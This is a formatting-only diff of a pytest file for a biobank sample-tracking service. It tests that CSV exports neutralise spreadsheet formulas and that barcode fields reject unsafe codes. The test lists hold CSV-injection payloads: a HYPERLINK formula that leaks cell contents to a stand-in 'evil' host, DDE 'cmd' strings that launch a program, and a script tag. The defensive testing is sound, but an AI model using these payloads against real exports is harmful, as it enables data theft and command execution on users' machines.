@@ -15,8 +15,13 @@ import pytest
 from biobank.custody.service import record_events
 from tests.test_import import patient, row, run_import, write_csv  # noqa: F401 (fixtures)
 
-FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
-            "\tTAB=1+1", "-2+3+cmd|' /C calc'!A0"]
+FORMULAS = [
+    '=HYPERLINK("http://evil/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd",
+    "\tTAB=1+1",
+    "-2+3+cmd|' /C calc'!A0",
+]
 DAY = dt.datetime(2026, 3, 10, 12, 0, tzinfo=dt.UTC)
 PACKAGE = Path(__file__).resolve().parent.parent / "biobank"
 
@@ -25,16 +30,26 @@ PACKAGE = Path(__file__).resolve().parent.parent / "biobank"
 def taken_out(make_aliquots, session):  # type: ignore[no-untyped-def]
     """A tube taken out five times, each with a formula as its reason."""
     tube = make_aliquots(n=1)[0]
-    record_events(session, [{"event_type": "taken_out", "aliquot_id": tube.id,
-                             "reason": reason} for reason in FORMULAS], "tech-x", at=DAY)
+    record_events(
+        session,
+        [
+            {"event_type": "taken_out", "aliquot_id": tube.id, "reason": reason}
+            for reason in FORMULAS
+        ],
+        "tech-x",
+        at=DAY,
+    )
     session.commit()
     return tube
 
 
 def reasons(text: str) -> list[str]:
     """The reason column of a custody CSV export, event by event."""
-    return [row["reason"] for row in csv.DictReader(io.StringIO(text))
-            if row["event_type"] == "taken_out"]
+    return [
+        row["reason"]
+        for row in csv.DictReader(io.StringIO(text))
+        if row["event_type"] == "taken_out"
+    ]
 
 
 def test_the_custody_export_of_a_tube_neutralises_formulas(manager, taken_out):
@@ -61,15 +76,28 @@ def test_the_json_export_keeps_the_reasons_as_they_were_given(manager, taken_out
 def test_only_csvsafe_writes_csv():
     """One writer: no module of the service but biobank/csvsafe.py makes a csv writer."""
     writer = re.compile(r"csv\.(writer|DictWriter)\b")
-    found = [str(path.relative_to(PACKAGE)) for path in PACKAGE.rglob("*.py")
-             if path.name != "csvsafe.py" and writer.search(path.read_text(encoding="utf-8"))]
+    found = [
+        str(path.relative_to(PACKAGE))
+        for path in PACKAGE.rglob("*.py")
+        if path.name != "csvsafe.py" and writer.search(path.read_text(encoding="utf-8"))
+    ]
     assert found == []
 
 
 # --- external codes: one character set --------------------------------------------------
 
-BAD_CODES = ["=cmd|x!A0", "<script>", "-FR1234", "+FR1234", "@FR1234", "FR 1234", "FR\u00a01234",
-             "FR1234;", "FR'1", "ab"]
+BAD_CODES = [
+    "=cmd|x!A0",
+    "<script>",
+    "-FR1234",
+    "+FR1234",
+    "@FR1234",
+    "FR 1234",
+    "FR\u00a01234",
+    "FR1234;",
+    "FR'1",
+    "ab",
+]
 
 
 @pytest.mark.parametrize("code", BAD_CODES)
@@ -87,8 +115,10 @@ def test_import_refuses_external_codes_outside_the_rule(runner, row, write_csv, 
 def test_registration_refuses_external_codes_outside_the_rule(tech, make_sample, code):
     """Splitting into pre-barcoded tubes: the same rule, a 422 naming the tube's field."""
     sample = make_sample()
-    response = tech.post(f"/api/v1/samples/{sample.barcode}/split", json={"aliquots": [
-        {"aliquot_type": "PLASMA", "volume_ml": "0.5", "barcode": code}]})
+    response = tech.post(
+        f"/api/v1/samples/{sample.barcode}/split",
+        json={"aliquots": [{"aliquot_type": "PLASMA", "volume_ml": "0.5", "barcode": code}]},
+    )
     assert response.status_code == 422, response.json
     assert "barcode" in str(response.json["errors"])
 
@@ -101,9 +131,13 @@ def test_the_split_service_keeps_the_rule_below_the_api(session, make_sample):
     from biobank.samples import service as samples
 
     with pytest.raises(Invalid, match="not a tube or rack code"):
-        samples.split(session, "x", make_sample(), [
-            {"aliquot_type": "PLASMA", "volume_ml": Decimal("0.5"), "barcode": "=cmd|x!A0"}],
-            samples.Numbering())
+        samples.split(
+            session,
+            "x",
+            make_sample(),
+            [{"aliquot_type": "PLASMA", "volume_ml": Decimal("0.5"), "barcode": "=cmd|x!A0"}],
+            samples.Numbering(),
+        )
 
 
 @pytest.mark.parametrize("code", ["=cmd|x!A0", "<script>", "-RACK1"])
@@ -114,18 +148,29 @@ def test_a_boxs_own_code_keeps_the_rule(session, code):
     from biobank.storage import service as storage
 
     storage.load_default_box_types(session, "setup")
-    freezer = storage.create_freezer(session, "setup", {
-        "site": "NL-PMC", "name": "F-80-11", "freezer_type": "mechanical-80"}, Numbering())
+    freezer = storage.create_freezer(
+        session,
+        "setup",
+        {"site": "NL-PMC", "name": "F-80-11", "freezer_type": "mechanical-80"},
+        Numbering(),
+    )
     with pytest.raises(Invalid, match="not a tube or rack code"):
-        storage.create_box(session, "setup", {"box_type": "SBS96", "parent": freezer.barcode,
-                                              "external_barcode": code}, Numbering())
+        storage.create_box(
+            session,
+            "setup",
+            {"box_type": "SBS96", "parent": freezer.barcode, "external_barcode": code},
+            Numbering(),
+        )
 
 
-@pytest.mark.parametrize(("text", "words"), [
-    ("=cmd|x!A0,A1,FX05653701\n=cmd|x!A0,A2,FX05653702\n", "rack code"),
-    ("RK1,A1,-FX05653701\n", "line 1"),
-    ("RK1,A1,FX05653701\nRK1,A2,@SUM(1)\n", "line 2"),
-])
+@pytest.mark.parametrize(
+    ("text", "words"),
+    [
+        ("=cmd|x!A0,A1,FX05653701\n=cmd|x!A0,A2,FX05653702\n", "rack code"),
+        ("RK1,A1,-FX05653701\n", "line 1"),
+        ("RK1,A1,FX05653701\nRK1,A2,@SUM(1)\n", "line 2"),
+    ],
+)
 def test_rack_scans_keep_the_rule_for_rack_and_tube_codes(tech, session, text, words):
     """A rack scan whose rack code or a tube code is outside the rule is a 422 naming it;
     the rack code is never offered to the box."""
@@ -133,13 +178,19 @@ def test_rack_scans_keep_the_rule_for_rack_and_tube_codes(tech, session, text, w
     from biobank.storage import service as storage
 
     storage.load_default_box_types(session, "setup")
-    freezer = storage.create_freezer(session, "setup", {
-        "site": "NL-PMC", "name": "F-80-12", "freezer_type": "mechanical-80"}, Numbering())
-    box = storage.create_box(session, "setup", {"box_type": "SBS96", "parent": freezer.barcode},
-                             Numbering())
+    freezer = storage.create_freezer(
+        session,
+        "setup",
+        {"site": "NL-PMC", "name": "F-80-12", "freezer_type": "mechanical-80"},
+        Numbering(),
+    )
+    box = storage.create_box(
+        session, "setup", {"box_type": "SBS96", "parent": freezer.barcode}, Numbering()
+    )
     session.commit()
-    response = tech.post(f"/api/v1/boxes/{box.barcode}/scan-upload", data=text,
-                         headers={"Content-Type": "text/csv"})
+    response = tech.post(
+        f"/api/v1/boxes/{box.barcode}/scan-upload", data=text, headers={"Content-Type": "text/csv"}
+    )
     assert response.status_code == 422, response.json
     assert words in response.json["message"]
     assert "not a tube or rack code" in response.json["message"]
@@ -148,9 +199,19 @@ def test_rack_scans_keep_the_rule_for_rack_and_tube_codes(tech, session, text, w
 def test_good_external_codes_still_pass(tech, make_sample):
     """FluidX, Matrix and Micronic codes (digits, letters, dots, dashes) are accepted."""
     sample = make_sample(volume_ml=__import__("decimal").Decimal("4"))
-    response = tech.post(f"/api/v1/samples/{sample.barcode}/split", json={"aliquots": [
-        {"aliquot_type": "PLASMA", "volume_ml": "0.5", "barcode": code}
-        for code in ("FX05653701", "0123456789", "RK-000881.2", "ab_1")]})
+    response = tech.post(
+        f"/api/v1/samples/{sample.barcode}/split",
+        json={
+            "aliquots": [
+                {"aliquot_type": "PLASMA", "volume_ml": "0.5", "barcode": code}
+                for code in ("FX05653701", "0123456789", "RK-000881.2", "ab_1")
+            ]
+        },
+    )
     assert response.status_code == 201, response.json
-    assert [a["barcode"] for a in response.json] == ["FX05653701", "0123456789",
-                                                     "RK-000881.2", "AB_1"]
+    assert [a["barcode"] for a in response.json] == [
+        "FX05653701",
+        "0123456789",
+        "RK-000881.2",
+        "AB_1",
+    ]
